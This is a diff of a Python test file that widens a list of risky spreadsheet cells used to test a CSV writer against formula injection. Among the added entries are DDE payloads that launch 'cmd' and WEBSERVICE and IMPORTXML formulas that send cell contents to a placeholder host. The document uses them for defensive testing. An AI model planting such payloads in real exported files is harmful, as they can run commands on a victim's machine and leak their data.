@@ -12,7 +12,12 @@ from hypothesis import strategies as st
 from dayhand import csv_text
 
 CELL = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
-RISKY = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\x00x", '=HYPERLINK("http://x.example")']
+RISKY = [
+    "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\x00x", '=HYPERLINK("http://x.example")',
+    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+=1", "\t=1+1",
+    "\r\n=1", '=WEBSERVICE("http://x.example/?"&A1)', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"1")', "-", "=", "\x00=1", "=\u00a0x", "@x\n=1",
+]  # fmt: skip
 
 
 @given(st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=6))
@@ -21,6 +26,10 @@ def test_what_is_written_is_read_back_exactly(rows):
     text = csv_text.write_csv(["a", "b", "c"], kept)
 
     assert [row.cells for row in csv_text.read_csv(text.encode())][1:] == kept
+
+
+def test_f02_there_are_at_least_18_cells_tried():
+    assert len(set(RISKY)) >= 18
 
 
 @pytest.mark.parametrize("cell", RISKY)
